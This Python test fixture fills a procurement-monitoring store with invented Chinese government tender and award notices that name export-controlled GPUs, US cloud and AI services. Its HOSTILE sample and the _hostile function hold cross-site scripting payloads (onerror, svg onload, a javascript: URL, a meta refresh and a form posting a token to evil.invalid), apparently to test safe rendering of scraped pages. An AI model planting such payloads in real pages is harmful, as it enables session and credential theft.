"""An invented store for the desk: notices of buyers and sellers that do not exist, with findings, captures, runs."""

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from hashlib import sha256
from io import BytesIO
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from monitor.staleness import Staleness
from notices.alert import PENDING, Alert, Delivery
from notices.document import FAILED, PARTLY_READ, READ, Capture, Document, Text
from notices.finding import Control, Finding, Place, Quantity
from notices.money import Money
from notices.notice import Item, Notice
from notices.party import Party
from notices.review import Review
from notices.run import Issue
from storage import Store
from storage.store import Unit

NOW = datetime(2026, 3, 6, 1, 30, tzinfo=UTC)
SOURCE = "ccgp-local"


@dataclass(frozen=True, slots=True)
class Line:
    """One source's health, as the desk shows it."""

    id: str
    title: str
    family: str
    state: str
    last_run: datetime | None
    last_success: datetime | None
    notices_7d: int
    gap: str = ""
    trouble: str = ""
    gone: int = 0
    requests: int = 0
    read: int = 0
    new: int = 0
    items_per_request: float | None = None
    failures: Mapping[str, int] = field(default_factory=dict)
    concerns: tuple[str, ...] = ()
    staleness: Staleness | None = None


SOURCES = (
    Line("ccgp-central", "中国政府采购网 中央公告", "ccgp", "ok", NOW, NOW, 1204,
         staleness=Staleness(timedelta(hours=2), timedelta(hours=5), timedelta(hours=96))),
    Line("ccgp-local", "中国政府采购网 地方公告", "ccgp", "ok", NOW, NOW, 8817),
    Line("dongping-portal", "东屏公共资源交易平台", "epoint", "refused", NOW, NOW - timedelta(days=2), 310,
         "Nothing is known from 2026-03-04 on: the site answered with a challenge page.",
         staleness=Staleness(timedelta(days=2), timedelta(days=11), timedelta(hours=240))),
    Line("nanting-portal", "南汀政府采购网", "zcy", "silent", NOW, NOW, 0, "No notice since 2026-02-27."),
    Line("beize-portal", "北泽高校采购网", "webplus", "failing", NOW, None, 0, "The list page has changed.",
         requests=57, read=12, new=3, items_per_request=0.21, failures={"layout": 4, "server error": 1},
         concerns=("12 notices dated 2026-03-03, at least 40 are expected",),
         staleness=Staleness(None, None, timedelta(hours=240))),
    Line("xiling-portal", "西岭电子采购平台", "vsb", "never run", None, None, 0),
)  # fmt: skip

CONTROLS = {
    "restricted": Control(
        "restricted", "2026-03-05", "us-2023-10-17", "88 FR 73458",
        "Listed under ECCN 3A090/4A090 for export to China as of 2026-03-05.",
    ),
    "licensable": Control(
        "licensable", "2026-03-05", "us-2026-01-15", "91 FR 1684",
        "Listed with case-by-case review for export to China as of 2026-03-05.",
    ),
    "service": Control(
        "service", "2026-03-05", None, None,
        "Access to a US cloud or AI service is no export under the rules as of 2026-03-05.",
    ),
    "not_controlled": Control("not_controlled", "2026-03-05", None, None, "Not listed as of 2026-03-05."),
    "unknown_date": Control("unknown_date", None, None, None),
}  # fmt: skip

BODY = """东屏理工大学智能计算平台建设项目中标结果公告
一、项目编号：DP-2026-0117
二、项目名称：智能计算平台建设项目
三、中标信息
包号 | 供应商名称 | 供应商地址 | 中标金额（元）
1 | 北泽恒远科技有限公司 | 北泽市高新区云杉路8号 | 2598000.00
四、主要标的信息
序号 | 货物名称 | 品牌 | 规格型号 | 数量 | 单价（元）
1 | GPU训练服务器 | 超算恒 | 配置8张NVIDIA H100 80GB SXM5，NVLink互联 | 2台 | 1180000.00
2 | 推理服务器 | 超算恒 | 配置4张NVIDIA L20 48GB | 1台 | 238000.00
五、评审专家名单：略
六、公告期限：自本公告发布之日起1个工作日。
七、其他补充事宜：原有A100节点维保不在本次采购范围内；平台软件须兼容H100集群。
采购人信息 | 东屏理工大学
采购代理机构 | 南汀招标咨询有限公司"""


def place(text: str, quote: str, origin: str = "body") -> Place:
    start = text.index(quote)
    return Place(origin, start, start + len(quote), quote)


def notice(number: int, title: str, kind: str, text: str, **changes: object) -> Notice:
    made = Notice(
        source=SOURCE,
        id=f"n{number}",
        url=f"https://portal.invalid/notice/n{number}.htm",
        title=title,
        kind=kind,
        published=datetime(2026, 3, 5, 2, 0, tzinfo=UTC) - timedelta(days=number),
        text=text,
        label="中标公告" if kind == "award" else "",
        parties=(Party(f"东屏第{number}研究所", "buyer"),),
        region="110000",
        project_code=f"XM-{number:04}",
    )
    return replace(made, **changes)  # type: ignore[arg-type]


def finding(of: Notice, item: str, label: str, spot: Place, **changes: object) -> Finding:
    made = Finding(
        notice=of.id,
        item=item,
        label=label,
        category="gpu",
        relation="buys",
        flagged=True,
        basis="named",
        severity="high",
        place=spot,
        control=CONTROLS["restricted"],
        reasons=(f"The notice names {label}.",),
        watchlist_version="5d41402abc4b2a76b9719d911017c592" * 2,
    )
    made = replace(made, **changes)  # type: ignore[arg-type]
    if made.control.as_of:
        day = of.published_on or ""
        sentence = made.control.sentence.replace(made.control.as_of, day)
        made = replace(made, control=replace(made.control, as_of=day, sentence=sentence))
    return made


AWARD = notice(
    1,
    "东屏理工大学智能计算平台建设项目中标结果公告",
    "award",
    BODY,
    published=datetime(2026, 3, 5, 2, 0, tzinfo=UTC),
    parties=(
        Party("东屏理工大学", "buyer"),
        Party("南汀招标咨询有限公司", "procuringEntity"),
        Party("北泽恒远科技有限公司", "supplier"),
    ),
    project_code="DP-2026-0117",
    award=Money(Decimal("2598000.00"), "CNY", "2598000.00元"),
    items=(Item("GPU训练服务器", brand="超算恒", quantity=Decimal(2), as_written="GPU训练服务器 | 超算恒 | 2台"),),
    documents=(
        Document("https://portal.invalid/a/1.docx", "招标文件定稿.docx"),
        Document("https://portal.invalid/a/2.pdf", "中标标的清单.pdf"),
        Document("https://portal.invalid/a/3.rar", "评审附件.rar"),
    ),
)
TENDER = replace(
    AWARD,
    id="n0",
    url="https://portal.invalid/notice/n0.htm",
    title="东屏理工大学智能计算平台建设项目公开招标公告",
    kind="tender",
    label="公开招标公告",
    published=datetime(2026, 2, 2, 2, 0, tzinfo=UTC),
    text="采购GPU训练服务器2台，单台不低于8张H100或同等性能加速卡。预算金额：280万元。",
    parties=AWARD.parties[:2],
    award=None,
    budget=Money(Decimal(2800000), "CNY", "280万元"),
    documents=(),
    items=(),
)
H100 = finding(
    AWARD,
    "nvidia-h100",
    "NVIDIA H100",
    place(BODY, "配置8张NVIDIA H100 80GB SXM5"),
    severity="critical",
    quantity=Quantity(16, 2),
    also=(place(BODY, "兼容H100集群"), Place("document:1#page=14", 8, 12, "H100")),
    reasons=(
        "The goods table of an award names NVIDIA H100.",
        "The supplier is named and the amount is stated.",
        "Listed as restricted on the date of publication.",
    ),
)

SIMPLE = (
    ("nvidia-h20", "NVIDIA H20", "H20 141GB", "大模型推理服务器采购项目招标公告", "tender",
     "设备清单：推理服务器4台，每台配置8张H20 141GB。", "buys", "licensable", "high", "gpu", 6400000),
    ("aws", "Amazon Web Services", "亚马逊云（AWS）账号", "海外云资源服务采购成交公告", "award",
     "成交内容：亚马逊云（AWS）账号及按量计费服务，服务期12个月。", "rents", "service", "medium", "us_cloud", 486000),
    ("azure-openai", "Azure OpenAI", "Azure OpenAI GPT-4接口", "智能问答接口服务询价公告", "tender",
     "服务内容：Azure OpenAI GPT-4接口调用，不少于4000万词元。", "rents", "service", "medium", "us_ai", 198000),
    ("nvidia-rtx-4090", "NVIDIA RTX 4090", "RTX 4090 24G", "图形工作站采购合同公告", "contract",
     "工作站：显卡RTX 4090 24G，数量12台。", "buys", "licensable", "high", "gpu", 356000),
    ("spec-implied-gpu", "Accelerator by specification", "显存带宽≥3.35TB/s，FP16≥989TFLOPS", "科学计算集群采购意向",
     "intention", "拟采购计算节点：单卡显存80GB，显存带宽≥3.35TB/s，FP16≥989TFLOPS。", "buys_or_equivalent",
     "restricted", "critical", "gpu", 12000000),
    ("nvidia-a800", "NVIDIA A800", "A800 80GB", "存量算力扩容项目中标公告", "award",
     "新增A800 80GB加速卡16张，与现有节点同型号。", "buys", "restricted", "critical", "gpu", 3120000),
    ("supermicro-sys-421ge-tnrt", "Supermicro SYS-421GE-TNRT", "SYS-421GE-TNRT", "服务器采购更正公告", "correction",
     "更正内容：服务器型号由XH-200改为SYS-421GE-TNRT。", "buys", "restricted", "high", "gpu_server", None),
    ("offshore-compute", "Compute abroad", "境外算力租赁", "境外算力租赁单一来源公示", "single_source",
     "拟采购境外算力租赁服务，折合H100 256卡，租期6个月。", "rents", "service", "high", "offshore_compute", 9800000),
    ("github-copilot", "GitHub Copilot", "GitHub Copilot", "研发工具授权采购公告", "tender",
     "采购GitHub Copilot商业版授权200席。", "rents", "service", "low", "us_ai", 312000),
    ("nvidia-h200", "NVIDIA H200", "H200", "训练一体机采购终止公告", "termination",
     "因需求调整，H200训练一体机项目终止。", "buys", "licensable", "medium", "gpu", None),
)  # fmt: skip

LONG_BODY = "\n".join(f"第{number:04}条 投标人须按要求逐项响应。" for number in range(3000))
HOSTILE = """<script>document.title='owned'</script>
<img src=https://evil.invalid/x.png onerror="alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.invalid/">
参数 | 要求 | <b onmouseover=alert(2)>粗</b>
显卡 | "><svg onload=alert(3)> NVIDIA A100 40GB | 4张
</div></main><form action="https://evil.invalid/"><input name=token></form> \u202e倒写\u202c"""


def fill(store: Store, captures: Path) -> dict[str, str]:
    """Fills the store; returns the keys of its findings by a short name."""
    with store.begin() as unit:
        unit.notices.save(TENDER, NOW)
        keys = dict(zip(("h100", "l20", "a100"), _award(unit, captures), strict=True))
        keys["tender"] = _found(unit, TENDER, finding(
            TENDER, "nvidia-h100", "NVIDIA H100", place(TENDER.text, "不低于8张H100或同等性能"),
            relation="buys_or_equivalent", severity="critical"))  # fmt: skip
        for number, row in enumerate(SIMPLE, start=2):
            keys[row[0]] = _simple(unit, number, row)
        keys["long"] = _long(unit)
        keys["hostile"] = _hostile(unit, captures)
        _watch(unit, keys)
    return keys


def _award(unit: Unit, captures: Path) -> list[str]:
    page = f"<html><head><title>x</title></head><body><script>alert(1)</script><p>{BODY}</p></body></html>".encode()
    capture = write_capture(captures, AWARD.url, page, "text/html; charset=utf-8")
    saved = unit.notices.save(AWARD, NOW, unit.captures.add(capture))
    first, _second, third = [each for each in unit.documents.all() if each.notice_id == saved.notice_id]
    words = Text("#page=14", "技术参数：训练卡H100，显存80GB。\n参数 | 要求\n显存 | ≥80GB")
    unit.documents.set_read(first.id, READ, "", "docx", [words], NOW)
    unit.documents.set_read(third.id, FAILED, "the archive is protected by a password", "rar", [], NOW)
    l20 = finding(
        AWARD, "nvidia-l20", "NVIDIA L20", place(BODY, "NVIDIA L20 48GB"), control=CONTROLS["not_controlled"],
        severity="low", quantity=Quantity(4, 1),
    )  # fmt: skip
    a100 = finding(
        AWARD, "nvidia-a100", "NVIDIA A100", place(BODY, "原有A100节点维保"), relation="existing", flagged=False,
        severity="info", reasons=("原有 and 维保 stand beside the name: it is already owned.",),
    )  # fmt: skip
    return unit.findings.replace(saved.notice_id, SOURCE, [H100, l20, a100], NOW)


def _found(unit: Unit, of: Notice, found: Finding) -> str:
    stored = unit.notices.get(of.source, of.id)
    assert stored is not None
    (key,) = unit.findings.replace(stored.id, of.source, [found], NOW)
    return key


def _simple(unit: Unit, number: int, row: tuple[object, ...]) -> str:
    item, label, quote, title, kind, text, relation, status, severity, category, amount = row
    money = Money(Decimal(amount)) if isinstance(amount, int) else None
    made = notice(number, str(title), str(kind), str(text), budget=money)
    if number % 4 == 0:
        made = made.with_documents((Document(f"https://portal.invalid/d/{number}", "采购需求.pdf"),))
    unit.notices.save(made, NOW)
    basis = {"spec-implied-gpu": "specification", "supermicro-sys-421ge-tnrt": "system"}.get(str(item), "named")
    return _found(unit, made, finding(
        made, str(item), str(label), place(str(text), str(quote)), relation=relation, severity=severity,
        category=category, control=CONTROLS[str(status)], basis=basis,
        candidates=("nvidia-h100", "nvidia-h800") if basis == "specification" else (),
    ))  # fmt: skip


def _long(unit: Unit) -> str:
    text = LONG_BODY.replace("第1500条", "第1500条 显卡为RTX 5090 32G。")
    made = notice(40, "长篇招标文件公告", "tender", text)
    unit.notices.save(made, NOW)
    return _found(unit, made, finding(made, "nvidia-rtx-5090", "NVIDIA RTX 5090", place(text, "RTX 5090 32G"),
                                      control=CONTROLS["licensable"], severity="medium"))  # fmt: skip


def _hostile(unit: Unit, captures: Path) -> str:
    made = notice(
        41, "<img src=x onerror=alert(1)>采购公告", "tender", HOSTILE, url="javascript:alert(1)", published=None
    )
    capture = write_capture(captures, made.url, HOSTILE.encode(), "text/html")
    unit.notices.save(made, NOW, unit.captures.add(capture))
    return _found(unit, made, finding(made, "nvidia-a100", "NVIDIA A100", place(HOSTILE, "NVIDIA A100 40GB"),
                                      control=CONTROLS["unknown_date"], severity="medium"))  # fmt: skip


def write_capture(folder: Path, url: str, body: bytes, content_type: str) -> Capture:
    """Adds one response record to a WARC file and says where it stands."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "invented.warc.gz"
    start = path.stat().st_size if path.exists() else 0
    with path.open("ab") as file:
        writer = WARCWriter(file, gzip=True)
        headers = StatusAndHeaders("200 OK", [("Content-Type", content_type)], protocol="HTTP/1.1")
        address = url if url.startswith("http") else "https://portal.invalid/odd"
        when = {"WARC-Date": "2026-03-05T02:00:00Z"}
        record = writer.create_warc_record(
            address, "response", BytesIO(body), http_headers=headers, warc_headers_dict=when
        )
        writer.write_record(record)
        record.raw_stream.close()
    length = path.stat().st_size - start
    fetched = datetime(2026, 3, 5, 2, 0, tzinfo=UTC)
    return Capture(
        address, fetched, 200, content_type, sha256(body).hexdigest(), len(body), path.name, start, length
    )  # fmt: skip


def _watch(unit: Unit, keys: dict[str, str]) -> None:
    unit.reviews.add(Review(keys["github-copilot"], "rejected", "授权数量与标的不符。", "first reader", NOW))
    run = unit.runs.start("crawl", SOURCE, NOW - timedelta(minutes=9))
    unit.runs.finish(run, "succeeded", {"requests": 412, "notices_new": 37}, NOW - timedelta(minutes=2))
    failed = unit.runs.start("crawl", "dongping-portal", NOW - timedelta(minutes=8))
    unit.runs.finish(failed, "failed", {"requests": 3}, NOW - timedelta(minutes=7))
    refused = "The site answered with a challenge page: it is left alone until a person has looked at it."
    unit.runs.add_issue(Issue("dongping-portal", "refused", refused, "https://portal.invalid/list"), NOW, failed)
    reports = tuple(filter(None, (unit.findings.report(keys[name]) for name in ("h100", "nvidia-a800"))))
    news = Alert("a1", "restricted", reports[0].procedure, NOW, reports)
    sent = Delivery("d1" * 12, "a1", "desk-mail", "desk@newsroom.invalid", PENDING, 0, NOW)
    stuck = replace(sent, id="d2" * 12, channel="team-hook", target="https://hooks.invalid/…")
    unit.alerts.add(news, [sent, stuck])
    unit.alerts.delivered(sent.id, NOW)
    for minute in (1, 5):
        unit.alerts.postponed(stuck.id, "the receiver answered 503", NOW + timedelta(hours=1),
                              NOW + timedelta(minutes=minute))  # fmt: skip


__all__ = ["AWARD", "BODY", "CONTROLS", "HOSTILE", "NOW", "PARTLY_READ", "SOURCE", "SOURCES", "TENDER", "fill"]
